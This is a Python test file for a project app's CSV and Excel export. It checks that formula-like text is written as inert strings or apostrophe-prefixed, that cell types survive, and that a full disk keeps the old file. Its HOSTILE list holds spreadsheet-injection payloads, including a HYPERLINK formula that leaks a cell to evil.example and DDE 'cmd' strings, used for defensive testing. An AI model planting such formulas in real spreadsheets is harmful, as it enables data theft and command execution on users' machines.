"""Exported tables read back as Excel would: no cell is a formula, cells keep their types,
a control character breaks nothing, and a full disk leaves the old file and says so."""

from __future__ import annotations

import csv
import errno
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from retrofit_app.cli import main
from retrofit_app.core.checklists.export import export_checklists, header
from retrofit_app.core.table_files import write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(path: Path) -> list[list]:
    sheet = load_workbook(path).active  # not read-only: data_type as Excel's file says it
    return [list(row) for row in sheet.iter_rows()]


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_xlsx_text_that_looks_like_a_formula_is_a_string_cell(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_xlsx(out, "t", ["名称", "数"], [[text, 1] for text in HOSTILE])
    rows = _xlsx_cells(out)[1:]
    # Shown as typed (XML may read a carriage return back as a line feed: openpyxl 3.1.0 keeps
    # it, later versions give a line feed).
    assert [r[0].value.replace("\r", "\n") for r in rows] == [t.replace("\r", "\n") for t in HOSTILE]
    assert {r[0].data_type for r in rows} == {"s"}
    assert all(r[0].quotePrefix for r in rows)  # stays text when edited in Excel
    with zipfile.ZipFile(out) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the file


def test_csv_text_that_looks_like_a_formula_starts_with_an_apostrophe(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    write_csv(out, ["名称", "数"], [[text, -5] for text in HOSTILE] + [["普通 -1", 2.5]])
    rows = _csv_rows(out)[1:]
    assert [r[0] for r in rows] == ["'" + t for t in HOSTILE] + ["普通 -1"]
    assert [r[1] for r in rows] == ["-5"] * len(HOSTILE) + ["2.5"]  # numbers stay numbers


def test_xlsx_cells_are_typed_numbers_dates_and_text(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    when = datetime(2024, 5, 1, 9, 30)
    write_xlsx(out, "t", ["a", "b", "c", "d", "e"], [[3, 0.25, "0012", when, None]])
    a, b, c, d, e = _xlsx_cells(out)[1]
    assert (a.value, a.data_type) == (3, "n")
    assert (b.value, b.data_type) == (0.25, "n")
    assert (c.value, c.data_type) == ("0012", "s")  # a room number keeps its zeros
    assert (d.value, d.is_date) == (when, True)
    assert e.value is None


def test_a_control_character_is_dropped_not_fatal(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_xlsx(out, "t", ["名称"], [["颐和\x01新村\x1f"], ["南湖\x0b新村"], ["正常"]])
    assert [r[0].value for r in _xlsx_cells(out)[1:]] == ["颐和新村", "南湖新村", "正常"]


def test_a_cell_longer_than_excel_allows_is_cut_to_its_limit(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_xlsx(out, "t", ["名称"], [["长" * 100_000]])
    assert len(_xlsx_cells(out)[1][0].value) == 32_767


def _fill_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    """Writing the file puts part of it on disk, then the disk is full."""
    write_bytes = Path.write_bytes

    def write_part(self: Path, data: bytes) -> int:
        write_bytes(self, data[:100])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", write_part)


@pytest.mark.parametrize(("lang", "words"), [("zh", "磁盘已满"), ("en", "The disk is full")])
def test_estate_export_on_a_full_disk_keeps_the_old_file_and_says_so(
    project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys, lang: str, words: str
) -> None:
    project.estates.create(HOSTILE[0], "鼓楼区", code="GL-0001")
    path = project.path
    project.close()
    out = tmp_path / "estates.xlsx"
    assert main(["export", str(path), "--format", "xlsx", "--out", str(out)]) == 0
    before = out.read_bytes()
    monkeypatch.setenv("RETROFIT_APP_LANG", lang)
    _fill_disk(monkeypatch)
    assert main(["export", str(path), "--format", "xlsx", "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert words in err and "Traceback" not in err
    assert out.read_bytes() == before  # the earlier export is intact
    assert sorted(p.name for p in tmp_path.iterdir() if "estates" in p.name) == ["estates.xlsx"]


def test_estate_export_of_hostile_names_reads_back_as_text(project, tmp_path: Path) -> None:
    for number, name in enumerate(HOSTILE, start=1):
        project.estates.create(name, "鼓楼区", code=f"GL-{number:04d}")
    path = project.path
    project.close()
    xlsx, table = tmp_path / "estates.xlsx", tmp_path / "estates.csv"
    assert main(["export", str(path), "--format", "xlsx", "--out", str(xlsx)]) == 0
    assert main(["export", str(path), "--format", "csv", "--out", str(table)]) == 0
    rows = _xlsx_cells(xlsx)
    names = {r[1].value: r for r in rows[1:]}
    assert set(names) == {n.strip() for n in HOSTILE}  # names are stored trimmed
    assert {c.data_type for r in rows for c in r if c.value is not None} <= {"s", "n"}
    progress = rows[0].index(next(c for c in rows[0] if c.value == "进度 progress"))
    assert all(r[progress].data_type == "n" for r in rows[1:])  # numbers stay numbers
    assert all(r[1].startswith("'") for r in _csv_rows(table)[1:])


def test_checklist_note_that_is_a_formula_exports_as_text(project, tmp_path: Path) -> None:
    estate = project.estates.create("颐和新村", "鼓楼区", code="GL-0001")
    project.checklists.create_for_estate(estate.uuid)
    checklist = project.checklists.of_estate(estate.uuid)[0]
    item = checklist.template.items[0]
    project.checklists.answer(checklist.uuid, item.id, item.stages[0], None, note=HOSTILE[1])
    out = tmp_path / "c.xlsx"
    export_checklists(project, estate.uuid, out, "xlsx")
    rows = _xlsx_cells(out)
    col = header("zh").index("备注")
    noted = [r for r in rows[1:] if r[col].value == HOSTILE[1]]
    assert len(noted) == 1 and noted[0][col].data_type == "s"
    answered_at = noted[0][header("zh").index("填写时间")]
    assert answered_at.is_date  # a date-time cell, not text
    csv_out = tmp_path / "c.csv"
    export_checklists(project, estate.uuid, csv_out, "csv")
    assert sum(r[col] == "'" + HOSTILE[1] for r in _csv_rows(csv_out)) == 1
